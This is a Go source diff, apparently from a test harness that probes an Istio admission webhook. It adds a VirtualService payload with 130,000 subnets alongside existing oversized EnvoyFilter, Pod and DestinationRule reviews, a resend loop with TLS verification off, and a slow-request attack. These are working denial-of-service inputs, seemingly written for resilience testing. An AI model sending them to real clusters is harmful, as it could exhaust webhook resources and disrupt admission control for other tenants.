@@ -11,43 +11,62 @@ import (
 	"sync"
 )
 
-// The attacks on the address of admission webhooks, which asks for no credential. Reviews that an API server would pass on are of HeavyFilter, LargePod and
-// WrongRule.
+// The attacks on the address of admission webhooks, which asks for no credential. Reviews that an API server would pass
+// on are of HeavyFilter, LargePod, WrongRule and ManySubnets.
 
 // ReviewAttacks are their names.
-var ReviewAttacks = []string{"reviews-heavy", "reviews-pods", "reviews-wrong", "reviews-slow"}
+var ReviewAttacks = []string{"reviews-heavy", "reviews-pods", "reviews-wrong", "reviews-slow", "reviews-subnets"}
 
-// heavyValues is how many values make a review of 8 MB, and TenantValues how many one that an API server takes (3 MB).
+// heavyValues is the number of values in a review of 8 MB, TenantValues in one that an API server accepts (3 MB).
 const heavyValues, TenantValues = 2_700_000, 900_000
 
-// HeavyFilter is an EnvoyFilter, as JSON, whose patch has a list of so many objects without a field: each is three bytes, and hundreds once it is decoded.
+// HeavyFilter returns an EnvoyFilter as JSON. Its patch has a list of `values` objects without fields, each of which
+// has three bytes, and hundreds once it is decoded.
 func HeavyFilter(namespace string, values int) []byte {
-	return fmt.Appendf(nil, `{"apiVersion":"networking.istio.io/v1alpha3","kind":"EnvoyFilter","metadata":{"name":"heavy","namespace":%q},"spec":{"configPatches":[`+
-		`{"applyTo":"CLUSTER","patch":{"operation":"MERGE","value":{"a":[%s{}]}}}]}}`, namespace, strings.Repeat("{},", values))
+	return fmt.Appendf(nil,
+		`{"apiVersion":"networking.istio.io/v1alpha3","kind":"EnvoyFilter","metadata":{"name":"heavy","namespace":%q},"spec":{"configPatches":[`+
+			`{"applyTo":"CLUSTER","patch":{"operation":"MERGE","value":{"a":[%s{}]}}}]}}`, namespace, strings.Repeat("{},", values))
 }
 
-// LargePod is a Pod, as JSON, with so many volumes that each names itself alone.
+// LargePod returns a Pod as JSON, with volumes that have only a name.
 func LargePod(namespace string, volumes int) []byte {
 	var all bytes.Buffer
 	for i := range volumes {
 		fmt.Fprintf(&all, `{"name":"v%d"},`, i)
 	}
-	return fmt.Appendf(nil, `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"large","namespace":%q},"spec":{"containers":[{"name":"app","image":"app"}],"volumes":[%s{"name":"v"}]}}`,
+	return fmt.Appendf(nil, `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"large","namespace":%q},`+
+		`"spec":{"containers":[{"name":"app","image":"app"}],"volumes":[%s{"name":"v"}]}}`,
 		namespace, all.Bytes())
 }
 
-// LargeVolumes is how many make a Pod of 1 MB.
+// LargeVolumes is the number of volumes in a Pod of 1 MB.
 const LargeVolumes = 60_000
+
+// ManySubnets is a VirtualService, as JSON, of connections to so many networks. Each may have addresses of others.
+func ManySubnets(namespace, name string, subnets int) []byte {
+	var all bytes.Buffer
+	for i := range subnets {
+		fmt.Fprintf(&all, `"203.%d.%d.%d/30",`, i>>14, i>>6&255, i<<2&255)
+	}
+	return fmt.Appendf(nil, `{"apiVersion":"networking.istio.io/v1","kind":"VirtualService","metadata":{"name":%q,"namespace":%q},`+
+		`"spec":{"hosts":["a.example.com"],"tcp":[{"match":[{"destinationSubnets":[%s"192.0.2.0/24"]}],`+
+		`"route":[{"destination":{"host":"a.example.com"}}]}]}}`, name, namespace, all.Bytes())
+}
+
+// LargeSubnets counts the networks of a VirtualService of 2.3 MB.
+const LargeSubnets = 130_000
 
 // WrongRule is a DestinationRule, as JSON, of 58 KB: its subsets have no name.
 func WrongRule(namespace string) []byte {
-	return fmt.Appendf(nil, `{"apiVersion":"networking.istio.io/v1","kind":"DestinationRule","metadata":{"name":"wrong","namespace":%q},"spec":{"host":"a","subsets":[%s{}]}}`,
+	return fmt.Appendf(nil, `{"apiVersion":"networking.istio.io/v1","kind":"DestinationRule","metadata":{"name":"wrong","namespace":%q},`+
+		`"spec":{"host":"a","subsets":[%s{}]}}`,
 		namespace, strings.Repeat("{},", 19_000))
 }
 
-// reviewOf is an API server's review of the creation of an object.
+// reviewOf returns an API server's review of the creation of an object.
 func reviewOf(group, version, kind string, object []byte) []byte {
-	return fmt.Appendf(nil, `{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"1","kind":{"group":%q,"version":%q,"kind":%q},"namespace":"tenant",`+
+	return fmt.Appendf(nil, `{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview",`+
+		`"request":{"uid":"1","kind":{"group":%q,"version":%q,"kind":%q},"namespace":"tenant",`+
 		`"operation":"CREATE","object":%s}}`, group, version, kind, object)
 }
 
@@ -61,6 +80,13 @@ var (
 	})
 )
 
+var subnetsReview = sync.OnceValue(func() []byte {
+	return reviewOf("networking.istio.io", "v1", "VirtualService", ManySubnets("tenant", "subnets", LargeSubnets))
+})
+
+func subnetReviews(ctx context.Context, w *attacker) string {
+	return w.reviews(ctx, "/validate", subnetsReview())
+}
 func heavyReviews(ctx context.Context, w *attacker) string {
 	return w.reviews(ctx, "/validate", heavyReview())
 }
@@ -71,10 +97,11 @@ func wrongReviews(ctx context.Context, w *attacker) string {
 	return w.reviews(ctx, "/validate", wrongReview())
 }
 
-// reviews sends one review again and again on one connection, and reads the answers.
+// reviews sends one review repeatedly on one connection, and reads the answers.
 func (w *attacker) reviews(ctx context.Context, path string, body []byte) string {
-	transport := &http.Transport{MaxConnsPerHost: 1, DisableCompression: true, TLSClientConfig: &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS12},
-		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) { return w.dialTo(ctx, w.Webhooks) }}
+	transport := &http.Transport{MaxConnsPerHost: 1, DisableCompression: true,
+		TLSClientConfig: &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS12},
+		DialContext:     func(ctx context.Context, _, _ string) (net.Conn, error) { return w.dialTo(ctx, w.Webhooks) }}
 	defer transport.CloseIdleConnections()
 	for {
 		r, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://localhost"+path, bytes.NewReader(body))
@@ -88,7 +115,7 @@ func (w *attacker) reviews(ctx context.Context, path string, body []byte) string
 	}
 }
 
-// slowReviews announces a review of 8 MB, sends one byte of it, and waits for what the server does.
+// slowReviews announces a review of 8 MB, sends one byte of it, and waits for the server to close the connection.
 func slowReviews(ctx context.Context, w *attacker) string {
 	raw, err := w.dialTo(ctx, w.Webhooks)
 	if err != nil {
@@ -96,7 +123,8 @@ func slowReviews(ctx context.Context, w *attacker) string {
 	}
 	defer raw.Close()
 	conn := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS12})
-	if _, err := fmt.Fprintf(conn, "POST /validate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n{", 8<<20); err != nil {
+	if _, err := fmt.Fprintf(conn,
+		"POST /validate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n{", 8<<20); err != nil {
 		return w.unconnected(ctx)
 	}
 	return wait(ctx, conn)
